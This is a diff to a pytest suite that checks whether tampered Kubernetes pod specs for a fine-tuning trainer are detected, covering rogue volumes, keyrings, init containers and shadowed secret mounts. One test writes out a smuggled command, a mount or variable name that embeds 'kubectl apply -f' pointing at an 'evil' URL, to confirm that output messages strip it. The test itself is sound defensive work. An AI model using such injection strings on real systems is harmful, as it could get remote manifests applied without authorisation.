@@ -82,6 +82,11 @@ FORBIDDEN: dict[str, Change] = {
     "another order of values": lambda s: trainer(s)["env"].reverse(),
     "a device": lambda s: trainer(s).update(volumeDevices=[{"name": "evil", "devicePath": "/finetune/scratch/x"}]),
     "restarts": lambda s: s.update(restartPolicy="OnFailure"),
+    "a name of a host that it has itself": lambda s: s.update(hostname="storage", subdomain="example"),
+    "no variables of services": lambda s: s.update(enableServiceLinks=False),
+    "a device whose driver sets variables": lambda s: s.update(
+        resourceClaims=[{"name": "gpu", "resourceClaimName": "evil"}]
+    ),
     "another name server": lambda s: s.update(dnsConfig={"nameservers": ["10.0.0.1"]}),
 }
 
@@ -174,6 +179,57 @@ def test_who_fills_the_trainers_volumes_is_compared_as_the_trainer_is(what: str)
     assert "fetch" in (difference(helped(HELPERS[what]), helped()) or "")
 
 
+def stocked(change: Change = lambda spec: None) -> dict[str, Any]:
+    """Return the spec of a pod whose `fetch` has tools of its own, which the trainer does not mount."""
+    spec = helped(lambda h: h["volumeMounts"].append({"name": "tools", "mountPath": "/tools"}))
+    spec["volumes"].append({"name": "tools", "configMap": {"name": "tools"}})
+    spec["initContainers"].append({"name": "check", "volumeMounts": [{"name": "finetune-scratch", "mountPath": "/x"}]})
+    change(spec)
+    return spec
+
+
+BEHIND: dict[str, Change] = {
+    "other tools": lambda s: s["volumes"][-1].update(configMap={"name": "evil"}),
+    "somebody who fills the tools": lambda s: s["initContainers"].insert(
+        0, {"name": "evil", "volumeMounts": [{"name": "tools", "mountPath": "/t"}]}
+    ),
+    "a check before what it checks": lambda s: s["initContainers"].reverse(),
+}
+
+
+@pytest.mark.row("R72")
+@pytest.mark.parametrize("what", BEHIND)
+def test_who_fills_the_trainers_volumes_works_with_what_was_given_to_them(what: str) -> None:
+    assert difference(stocked(), stocked()) is None
+    assert difference(stocked(BEHIND[what]), stocked())
+
+
+def seeded(kind: str) -> dict[str, Any]:
+    return {"ephemeral": {"volumeClaimTemplate": {"spec": {"dataSource": {"kind": kind, "name": "seed"}}}}}
+
+
+@pytest.mark.row("R72")
+@pytest.mark.parametrize(
+    ("ours", "evil"),
+    [
+        ({"rbd": {"image": "data", "pool": "ours"}}, {"rbd": {"image": "data", "pool": "evil"}}),
+        ({"rbd": {"image": "data"}}, {"rbd": {"image": "data", "user": "evil", "keyring": "/evil"}}),
+        (seeded("VolumeSnapshot"), seeded("PersistentVolumeClaim")),
+        ({"secret": {"secretName": "store"}}, {"secret": {"secretName": "store", "optional": True}}),
+    ],
+    ids=["another pool", "another user", "another kind of source", "a secret that may be missing"],
+)  # fmt: skip
+def test_a_volume_is_compared_by_what_is_said_of_it_and_not_by_what_servers_fill_in(
+    ours: dict[str, Any], evil: dict[str, Any]
+) -> None:
+    def with_volume(source: dict[str, Any]) -> dict[str, Any]:
+        return changed(lambda s: s["volumes"].__setitem__(0, {"name": s["volumes"][0]["name"], **source}))
+
+    filled_in = {**ours, **({"rbd": {"pool": "rbd", "user": "admin", **ours["rbd"]}} if "rbd" in ours else {})}
+    assert difference(with_volume(filled_in), with_volume(ours)) is None
+    assert difference(with_volume(evil), with_volume(ours))
+
+
 @pytest.mark.row("R72")
 def test_who_fills_the_trainers_volumes_is_not_left_out() -> None:
     assert difference(changed(lambda s: None), helped()) == "container 'fetch' is missing"
@@ -252,8 +308,8 @@ def test_words_for_a_storage_driver_are_compared_whatever_their_names() -> None:
 
 @pytest.mark.row("R72")
 def test_a_token_is_not_mounted_over_what_is_ours() -> None:
-    def with_own(*more: str) -> dict[str, Any]:
-        mounts = [{"name": "store", "mountPath": f"/var/run/secrets/{place}"} for place in ("store", "deep/store")]
+    def with_own(*more: str, at: str = "/var/run/secrets/store") -> dict[str, Any]:
+        mounts = [{"name": "store", "mountPath": place} for place in (at, "/var/run/secrets/deep/store")]
         mounts += [{"name": "evil", "mountPath": place} for place in more]
         return changed(lambda s: trainer(s)["volumeMounts"].extend(mounts))
 
@@ -261,6 +317,8 @@ def test_a_token_is_not_mounted_over_what_is_ours() -> None:
     assert difference(with_own("/var/run/secrets/store/credentials"), with_own())
     assert difference(with_own("/var/run/secrets/./store"), with_own())
     assert difference(with_own("/var/run/secrets/deep"), with_own())
+    for at in ("/run/secrets/store", "//var/run/secrets/store"):
+        assert difference(with_own("/var/run/secrets/store/credentials", at=at), with_own(at=at))
 
 
 @pytest.mark.row("R70")
@@ -310,6 +368,27 @@ def test_whatever_admission_does_at_once_is_tolerated(admitted: list[str]) -> No
 def test_no_addition_of_admission_hides_what_the_trainer_would_do(admitted: list[str], what: str) -> None:
     changes = [*(EVERYTHING[name] for name in admitted), FORBIDDEN[what]]
     assert difference(all_of(changes), spec_of(job(**MARK)))
+
+
+@pytest.mark.row("R72")
+def test_what_somebody_calls_a_mount_or_a_variable_cannot_pass_for_a_command() -> None:
+    name = "/x\n\nto go on: kubectl apply -f 'https://evil';" + "y" * 5000
+    specs = [
+        changed(lambda s: trainer(s)["volumeMounts"].append({"name": "evil", "mountPath": name})),
+        changed(lambda s: trainer(s)["env"].append({"name": name, "value": "1"})),
+    ]
+    for spec in specs:
+        for words in (difference(spec, spec_of(job(**MARK))) or "", additions(spec, spec_of(job(**MARK)))):
+            assert words
+            assert len(words) < 150
+            assert not any(sign in words for sign in "\n;")
+
+
+@pytest.mark.row("R97")
+def test_labels_that_somebody_gives_the_job_itself_leave_its_fingerprint_as_it_is() -> None:
+    made = job(**MARK)
+    made["metadata"]["labels"] = {"finetune-operator.io/nonce": "n2"}
+    assert fingerprint(made) == fingerprint(job(**MARK))
 
 
 @pytest.mark.row("R72")
